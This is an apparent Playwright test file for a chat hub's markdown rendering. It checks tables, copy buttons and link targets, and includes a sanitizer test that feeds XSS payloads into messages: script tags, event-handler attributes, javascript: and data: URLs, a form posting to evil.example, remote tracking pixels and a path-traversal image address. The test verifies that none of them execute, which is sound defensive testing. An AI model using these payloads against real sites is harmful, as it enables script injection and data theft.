import { expect, test } from '../support/fixture.ts'

test('[U18] markdown is shown complete: tables, task lists, code to copy, links that open elsewhere', async ({
  hub,
  visit,
}) => {
  const text = [
    '# Report',
    '| Name | Count |\n|--|--:|\n| one | 1 |',
    '- [x] done\n- [ ] open',
    '```ts\nconst answer = 42\n```',
    '> quoted',
    '[a link](https://example.com/page)',
  ].join('\n\n')
  await hub.say('work', [text])
  const chat = await visit()
  const bubble = chat.bubble('Report')
  await expect(bubble.getByRole('heading', { name: 'Report' })).toBeVisible()
  await expect(bubble.getByRole('cell', { name: 'one' })).toBeVisible()
  await expect(bubble.getByRole('img', { name: 'Done' })).toBeVisible()
  await expect(bubble.getByRole('img', { name: 'To do' })).toBeVisible()
  await expect(bubble.locator('blockquote')).toHaveText('quoted')
  const link = bubble.getByRole('link', { name: 'a link' })
  await expect(link).toHaveAttribute('target', '_blank')
  await expect(link).toHaveAttribute('rel', 'noopener noreferrer')
  await chat.page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
  // It says so for a moment only.
  await Promise.all([
    expect(bubble.getByRole('button', { name: 'Copied' })).toBeVisible(),
    bubble.getByRole('button', { name: 'Copy', exact: true }).click(),
  ])
  expect(await chat.page.evaluate(() => navigator.clipboard.readText())).toBe('const answer = 42')
})

test('[U19] nothing an agent writes can run, load or look like the page', async ({ hub, visit }) => {
  const attacks = [
    '<script>window.hacked = 1</script>',
    '<img src=x onerror="window.hacked = 1">',
    '<details open ontoggle="window.hacked = 1"><summary>x</summary></details>',
    '<svg onload="window.hacked = 1"></svg>',
    '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
    '<style>body { display: none }</style>',
    '<p style="position: fixed" id="app">styled</p>',
    '<form action="https://evil.example"><input name="secret"></form>',
    '[click](javascript:window.hacked=1)',
    '<a href="javascript:window.hacked=1">raw click</a>',
    '[data](data:text/html,<script>window.hacked=1</script>)',
    '![picture](https://evil.example/pixel.png)',
    '<img src="//evil.example/pixel.png" srcset="https://evil.example/2x.png 2x">',
    '![inline](data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==)',
    'The end',
  ]
  await hub.say('work', attacks)
  const chat = await visit('/', { height: 3000 })
  const remote: string[] = []
  chat.page.on('request', (request) => {
    if (!/^(data|ws)/.test(request.url()) && new URL(request.url()).origin !== new URL(hub.url).origin)
      remote.push(request.url())
  })
  await chat.page.reload()
  await expect(chat.bubble('The end')).toBeVisible()
  await expect(chat.timeline.getByRole('article')).toHaveCount(attacks.length)
  expect(await chat.page.evaluate(() => 'hacked' in window)).toBe(false)
  const risky = 'script, iframe, style, form, input, svg[onload], [onerror], [ontoggle], [style*="fixed"], [srcset]'
  await expect(chat.timeline.locator('.markdown').locator(risky)).toHaveCount(0)
  const links = await chat.timeline
    .locator('.markdown a[href]')
    .evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).protocol))
  expect(new Set(links)).toEqual(new Set(['https:']))
  await expect(chat.timeline.getByRole('link', { name: 'Image: picture' })).toBeVisible()
  const images = await chat.timeline
    .locator('img')
    .evaluateAll((all) => all.map((image) => (image as HTMLImageElement).src.slice(0, 11)))
  expect(images).toEqual(['data:image/'])
  // Tags that are not markdown's are shown as the text they are.
  await expect(chat.timeline.getByText('<script>window.hacked = 1</script>', { exact: true })).toBeVisible()
  expect(remote).toEqual([])
})

test('[U18] a long line or a wide table scrolls inside its bubble and never widens the page', async ({
  hub,
  visit,
}) => {
  const long = 'x'.repeat(3000)
  await hub.say('work', [
    long,
    `\`\`\`\n${long}\n\`\`\``,
    `| ${'wide column | '.repeat(30)}\n|${'--|'.repeat(30)}`,
    'The end',
  ])
  const chat = await visit('/', { width: 390, height: 844, touch: true })
  await expect(chat.bubble('The end')).toBeVisible()
  expect(await chat.page.evaluate(() => document.documentElement.scrollWidth)).toBe(390)
  expect(await chat.timeline.evaluate((node) => node.scrollWidth - node.clientWidth)).toBe(0)
})

test('[S152] an image of a message asks the hub for nothing but attached files', async ({ hub, visit }) => {
  const own = ['/api/export/work', '/healthz', `${hub.url}/api/export/work`, '/attachments/../api/export/work', '?a']
  await hub.say('work', [`Look\n\n${own.map((address, n) => `![of ${n}](${address})`).join('\n')}`])
  const chat = await visit()
  const asked: string[] = []
  chat.page.on('request', (request) => asked.push(request.url()))
  await chat.page.reload()
  await expect(chat.timeline.getByText('Image: of 3')).toBeVisible()
  await expect(chat.timeline.locator('.markdown img')).toHaveCount(0)
  expect(asked.filter((url) => /export|healthz/.test(url))).toEqual([])
})
